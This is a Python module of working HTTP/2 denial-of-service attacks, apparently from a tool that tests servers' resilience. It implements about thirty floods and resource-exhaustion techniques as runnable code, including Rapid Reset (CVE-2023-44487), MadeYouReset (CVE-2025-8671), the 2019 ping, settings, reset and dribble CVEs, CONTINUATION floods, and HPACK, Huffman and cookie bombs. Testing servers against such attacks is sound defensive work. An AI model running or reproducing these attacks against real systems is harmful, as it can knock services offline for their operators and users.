"""The attacks."""

import time

from . import hpack
from .attack import attack
from .frames import *

_BATCH = 200


@attack("rapid-reset", "Requests that are reset at once (CVE-2023-44487)", ends=True)
def rapid_reset(attacker):
    peer = attacker.connect()
    block = peer.block("/")
    while not attacker.is_over:
        octets = b"".join(
            headers(number, block) + rst_stream(number)
            for number in (attacker.next_stream() for _ in range(_BATCH)))
        attacker.send(octets, 2 * _BATCH)


@attack("rapid-reset-with-body", "Requests with a body to come that are reset at once", ends=True)
def rapid_reset_with_body(attacker):
    peer = attacker.connect()
    block = peer.block("/echo", "POST")
    while not attacker.is_over:
        octets = b"".join(
            headers(number, block, end=False) + data(number, b"x") + rst_stream(number)
            for number in (attacker.next_stream() for _ in range(_BATCH)))
        attacker.send(octets, 3 * _BATCH)


@attack("made-you-reset", "Requests that make the target reset them, by errors on their streams (CVE-2025-8671)", ends=True)
def made_you_reset(attacker):
    peer = attacker.connect()
    block = peer.block("/wait", "POST")
    mistakes = (lambda number: window_update(number, 0), lambda number: window_update(number, MAX_WINDOW),
                lambda number: frame(PRIORITY, 0, number, b"\0"),
                lambda number: headers(number, hpack.block([(":path", "/")])))
    while not attacker.is_over:
        octets = b"".join(
            headers(number, block, end=False) + mistakes[number // 2 % len(mistakes)](number)
            for number in (attacker.next_stream() for _ in range(_BATCH)))
        attacker.send(octets, 2 * _BATCH)


@attack("made-you-reset-ended", "Whole requests that make the target reset them, by DATA and credit behind their end",
        ends=True)
def made_you_reset_ended(attacker):
    peer = attacker.connect()
    block = peer.block("/wait")
    while not attacker.is_over:
        octets = b"".join(
            headers(number, block) + (data(number, b"x") if number % 4 == 1 else window_update(number, 0))
            for number in (attacker.next_stream() for _ in range(_BATCH)))
        attacker.send(octets, 2 * _BATCH)


@attack("reset-flood", "Malformed requests that are refused one by one, and nobody reads it (CVE-2019-9514)", ends=True)
def reset_flood(attacker):
    peer = attacker.connect(receive_buffer=4096)
    block = peer.block("/") + hpack.literal(b"Upper", b"case")
    while not attacker.is_over:
        octets = b"".join(headers(attacker.next_stream(), block) for _ in range(_BATCH))
        attacker.send(octets, _BATCH, reads=False)


def _repeat(attacker, octets, frames, reads=False):
    while not attacker.is_over:
        attacker.send(octets, frames, reads)


@attack("ping-flood", "PING without end, and nobody reads the answers (CVE-2019-9512)", ends=True)
def ping_flood(attacker):
    attacker.connect(receive_buffer=4096)
    _repeat(attacker, ping() * 1000, 1000)


@attack("ping-flood-read", "PING without end, and the answers are read", ends=True)
def ping_flood_read(attacker):
    attacker.connect()
    _repeat(attacker, ping() * 1000, 1000, reads=True)


@attack("settings-flood", "SETTINGS without end, and nobody reads the acknowledgements (CVE-2019-9515)", ends=True)
def settings_flood(attacker):
    attacker.connect(receive_buffer=4096)
    _repeat(attacker, settings((MAX_CONCURRENT_STREAMS, 100)) * 1000, 1000)


@attack("settings-of-window", "SETTINGS_INITIAL_WINDOW_SIZE up and down while streams wait", ends=True)
def settings_of_window(attacker):
    peer = attacker.connect((INITIAL_WINDOW_SIZE, 0))
    for _ in range(50):
        peer.get(attacker.next_stream(), "/big")
    _repeat(attacker, (settings((INITIAL_WINDOW_SIZE, 1)) + settings((INITIAL_WINDOW_SIZE, 0))) * 200, 400, reads=True)


@attack("empty-data", "Empty DATA without end (CVE-2019-9518)", ends=True)
def empty_data(attacker):
    peer = attacker.connect()
    peer.post(attacker.next_stream())
    _repeat(attacker, data(1, b"") * 1000, 1000, reads=True)


@attack("padded-empty-data", "DATA of nothing but padding, without end", ends=True)
def padded_empty_data(attacker):
    peer = attacker.connect()
    peer.post(attacker.next_stream())
    sent, one = 0, frame(DATA, PADDED, 1, padded(b"", 3))
    while not attacker.is_over:
        peer.run(lambda: DEFAULT_WINDOW + min(peer.credit.get(0, 0), peer.credit.get(1, 0)) >= sent + 4000, 0.2)
        attacker.send(one * 1000, 1000)
        sent += 4000


@attack("empty-continuation", "Empty CONTINUATION without end (CVE-2019-9518)", ends=True)
def empty_continuation(attacker):
    peer = attacker.connect()
    number = attacker.next_stream()
    peer.send(headers(number, peer.block("/"), flags=0))
    _repeat(attacker, continuation(number, b"", end=False) * 1000, 1000, reads=True)


@attack("continuation-flood", "A field block without end, in CONTINUATION frames of literals (2024)", ends=True)
def continuation_flood(attacker):
    peer = attacker.connect()
    number = attacker.next_stream()
    peer.send(headers(number, peer.block("/"), flags=0))
    piece = hpack.literal(b"x-flood", b"v" * 1000) * 16
    _repeat(attacker, continuation(number, piece, end=False) * 16, 16, reads=True)


@attack("continuation-trickle", "A field block without end, a byte in each CONTINUATION (2024)", ends=True)
def continuation_trickle(attacker):
    peer = attacker.connect()
    number = attacker.next_stream()
    peer.send(headers(number, peer.block("/") + b"\x00\x06x-name\x7f\xff\xff\xff\x7f", flags=0))
    _repeat(attacker, continuation(number, b"v", end=False) * 1000, 1000, reads=True)


@attack("empty-fields", "Fields without name and value, as many as frames hold (CVE-2019-9516)")
def empty_fields(attacker):
    peer = attacker.connect()
    block = peer.block("/") + b"\x00\x80\x80" * 5000
    while not attacker.is_over:
        attacker.send(b"".join(headers(attacker.next_stream(), block) for _ in range(8)), 8)


@attack("hpack-bomb", "One entry of 4 KiB in the table, named sixteen thousand times in a block")
def hpack_bomb(attacker):
    peer = attacker.connect()
    size = min(peer.settings.get(HEADER_TABLE_SIZE, 4096), 4096)
    if size < 256:
        attacker.send(headers(attacker.next_stream(), peer.block("/")), 1)
        return
    first = peer.block("/") + hpack.literal(b"x-bomb", b"v" * (size - 64), "incremental")
    attacker.send(headers(attacker.next_stream(), first), 1)
    bomb = peer.block("/") + hpack.indexed(62) * 16000
    while not attacker.is_over:
        attacker.send(b"".join(headers(attacker.next_stream(), bomb) for _ in range(4)), 4)


@attack("cookie-bomb", "Cookies in thousands of crumbs")
def cookie_bomb(attacker):
    peer = attacker.connect()
    bomb = peer.block("/") + hpack.literal(32, b"a=1") * 2500
    while not attacker.is_over:
        attacker.send(b"".join(headers(attacker.next_stream(), bomb) for _ in range(8)), 8)


@attack("huffman-bomb", "Values in Huffman codes, sixteen KiB each")
def huffman_bomb(attacker):
    peer = attacker.connect()
    bomb = peer.block("/") + hpack.literal(b"x-bomb", b"0" * 24000, coded=True)
    while not attacker.is_over:
        attacker.send(b"".join(headers(attacker.next_stream(), bomb) for _ in range(4)), 4)


@attack("table-turnover", "Entries that drive out the whole dynamic table, again and again")
def table_turnover(attacker):
    peer = attacker.connect()
    entries = b"".join(hpack.literal(b"x-%d" % at, b"", "incremental") for at in range(120))
    large = hpack.literal(b"x-large", b"v" * 3900, "incremental")
    block = peer.block("/") + entries + large
    while not attacker.is_over:
        attacker.send(b"".join(headers(attacker.next_stream(), block) for _ in range(20)), 20)


@attack("size-updates", "Sixteen thousand table size updates in a block")
def size_updates(attacker):
    peer = attacker.connect()
    block = (hpack.size_update(0) + hpack.size_update(4096)) * 3900 + peer.block("/")
    while not attacker.is_over:
        attacker.send(b"".join(headers(attacker.next_stream(), block) for _ in range(4)), 4)


@attack("window-updates", "WINDOW_UPDATE of 1 without end, on a stream and on the connection")
def window_updates(attacker):
    peer = attacker.connect((INITIAL_WINDOW_SIZE, 0))
    peer.get(attacker.next_stream(), "/big")
    _repeat(attacker, (window_update(1, 1) + window_update(0, 1)) * 500, 1000, reads=True)


@attack("priority-flood", "PRIORITY on idle streams, as a tree that is turned over (CVE-2019-9513)")
def priority_flood(attacker):
    attacker.connect()
    tree = b"".join(priority(number, number - 2 if number > 1 else 0) for number in range(1, 2001, 2))
    back = b"".join(priority(number, number + 2) for number in range(1, 1999, 2))
    _repeat(attacker, tree + back, 1999, reads=True)


@attack("unknown-frames", "Frames of unknown types without end")
def unknown_frames(attacker):
    attacker.connect()
    _repeat(attacker, frame(0xbe, 0, 0, b"?") * 1000, 1000, reads=True)


@attack("dribble", "Large responses on a hundred streams, a byte of credit at a time (CVE-2019-9511)", limit=48)
def dribble(attacker):
    peer = attacker.connect((INITIAL_WINDOW_SIZE, 1))
    numbers = [attacker.next_stream() for _ in range(100)]
    for number in numbers:
        peer.get(number, "/big")
    octets = b"".join(window_update(number, 1) for number in numbers)
    _repeat(attacker, octets * 5, 500, reads=True)


@attack("unread-responses", "Large windows, large responses, and nobody reads the socket (CVE-2019-9517)", limit=48)
def unread_responses(attacker):
    peer = attacker.connect((INITIAL_WINDOW_SIZE, MAX_WINDOW), receive_buffer=4096)
    peer.send(window_update(0, MAX_WINDOW - DEFAULT_WINDOW))
    for _ in range(100):
        attacker.send(headers(attacker.next_stream(), peer.block("/big")), 1, reads=False)
    _wait(attacker)


@attack("zero-window", "Large responses on a hundred streams that get no credit", limit=48)
def zero_window(attacker):
    peer = attacker.connect((INITIAL_WINDOW_SIZE, 0))
    for _ in range(100):
        attacker.send(headers(attacker.next_stream(), peer.block("/big")), 1)
    _wait(attacker)


@attack("unread-uploads", "A hundred bodies that fill their windows, for a service that reads none", limit=48)
def unread_uploads(attacker):
    peer = attacker.connect()
    initial, total = peer.settings.get(INITIAL_WINDOW_SIZE, DEFAULT_WINDOW), 0
    for _ in range(100):
        number = attacker.next_stream()
        peer.send(headers(number, peer.block("/hold", "POST"), end=False))
        sent = 0
        while not attacker.is_over and peer.run(
                lambda: min(initial + peer.credit.get(number, 0) - sent, DEFAULT_WINDOW + peer.credit.get(0, 0) - total)
                >= DEFAULT_FRAME, 0.05):
            attacker.send(data(number, b"x" * DEFAULT_FRAME), 1)
            sent += DEFAULT_FRAME
            total += DEFAULT_FRAME
    _wait(attacker)


@attack("open-blocks", "Field blocks that are begun and never ended, on connections that stay")
def open_blocks(attacker):
    peer = attacker.connect()
    peer.send(headers(attacker.next_stream(), peer.block("/") + b"x" * 10000, flags=0))
    _wait(attacker)


@attack("churn", "Connections that end right behind their SETTINGS")
def churn(attacker):
    peer = attacker.connect()
    peer.send(headers(attacker.next_stream(), peer.block("/wait")))
    attacker.frames += 1


@attack("goaway-flood", "GOAWAY without end")
def goaway_flood(attacker):
    attacker.connect()
    _repeat(attacker, goaway(0, NO_ERROR, b"d" * 100) * 500, 500, reads=True)


def _wait(attacker):
    """Holds the connection, and reads nothing."""
    while not attacker.is_over:
        time.sleep(0.05)
